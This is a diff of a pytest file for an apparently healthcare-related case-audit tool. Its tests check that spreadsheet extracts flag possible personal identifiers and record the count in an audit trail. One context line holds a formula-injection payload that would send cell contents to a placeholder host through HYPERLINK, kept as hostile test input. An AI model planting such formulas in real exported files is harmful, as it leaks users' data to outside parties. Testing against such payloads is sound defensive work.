@@ -8,9 +8,9 @@ import pytest
 from openpyxl.workbook import Workbook
 from sqlalchemy import select
 
-from audit.commands import retention
+from audit.commands import case_audit, identifier, retention
 from audit.documents.board_pack import board_pack
-from audit.documents.case_extract import case_extract
+from audit.documents.case_extract import NONE_POINTED, case_extract
 from audit.documents.disposal_certificate import UNFINISHED, disposal_certificate, lines
 from audit.model.board import Filter
 from audit.model.person import Person, Role
@@ -19,10 +19,20 @@ from audit.rules.retention import today
 from audit.store import tables as t
 from audit.store.database import Database
 from audit.views import retention as views
-from tests.builders import Clock, admitted, complete, give, open_round, started, submitted
+from audit.views.trail import TrailFilter, trail
+from tests.builders import Clock, admitted, complete, give, judge, open_round, started, submitted
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
-SHEETS = ["Summary", "Case audits", "Case facts", "Answers", "Judgements", "Trail"]
+SHEETS = [
+    "Summary",
+    "Identifiers",
+    "Case lists",
+    "Case audits",
+    "Case facts",
+    "Answers",
+    "Judgements",
+    "Trail",
+]
 
 
 def read(content: bytes) -> Workbook:
@@ -95,6 +105,67 @@ def test_that_it_was_taken_stands_in_the_trail_first(db: Database, held: Person)
     with pytest.raises(Refusal):
         case_extract(db, board, "S-001")
     assert len(acts(db)) == before
+
+
+SUSPECT = "Told by Mrs Smith, 943 476 5919"
+
+
+@pytest.fixture
+def telling(db: Database, by: Person) -> Person:
+    """S-001 with something that points at somebody in every box, and a word of the partnership's own."""
+    identifier.watch(db, by, "Larkspur House")
+    round_id = open_round(db)
+    draft = submitted(db, round_id, "S-001", ratings="na")
+    case_audit.send_back(db, by, draft, SUSPECT)
+    for part in ("evidence", "reason"):
+        give(db, by, draft, "C1", part, SUSPECT)
+    judge(db, by, draft, "sleep", "poor", "Two visits to larkspur house weighed most")
+    other = submitted(db, round_id, "S-002", "gp")
+    case_audit.send_back(db, by, other, "Mrs Jones was there")
+    return by
+
+
+def test_what_looks_like_an_identifier_is_listed_and_nothing_is_held_back(
+    db: Database, telling: Person
+) -> None:
+    """Whoever answers a request decides what is disclosed: they must have all of it, and be told."""
+    book = read(case_extract(db, telling, "S-001")[1])
+    listed = [(row["Sheet"], row["Where"], row["Text"]) for row in rows(book, "Identifiers")]
+    assert listed == [
+        ("Case audits", "returned, first reading", "Mrs Smith"),
+        ("Case audits", "returned, first reading", "943 476 5919"),
+        ("Answers", "C1, evidence, first reading", "Mrs Smith"),
+        ("Answers", "C1, evidence, first reading", "943 476 5919"),
+        ("Answers", "C1, reason, first reading", "Mrs Smith"),
+        ("Answers", "C1, reason, first reading", "943 476 5919"),
+        ("Judgements", "Safer sleep, first reading", "larkspur house"),
+    ]
+    said = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
+    assert said["Look at first"].startswith(
+        "In 7 places something looks as if it identifies a person"
+        " (name 3, NHS number 3, watched word 1)."
+    )
+    lines_ = [each["Evidence"] for each in rows(book, "Answers") if each["Criterion"] == "C1"]
+    assert lines_ == [SUSPECT]
+
+
+def test_the_trail_says_how_much_of_it_looked_like_an_identifier(
+    db: Database, telling: Person
+) -> None:
+    case_extract(db, telling, "S-001")
+    told = [each.words for each in trail(db, telling, TrailFilter(act="case.extracted")).entries]
+    assert told == [
+        "took out all that is held on the case S-001, with 7 that may identify a person"
+    ]
+    assert trail(db, telling, TrailFilter(subject="s-001")).entries[0].words == told[0]
+
+
+def test_an_extract_without_suspects_does_not_call_itself_clean(db: Database, held: Person) -> None:
+    """The rules miss some: nobody may rely on silence."""
+    book = read(case_extract(db, held, "S-001")[1])
+    said = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
+    assert said["Look at first"] == NONE_POINTED
+    assert rows(book, "Identifiers") == []
 
 
 def due(db: Database, by: Person) -> str:
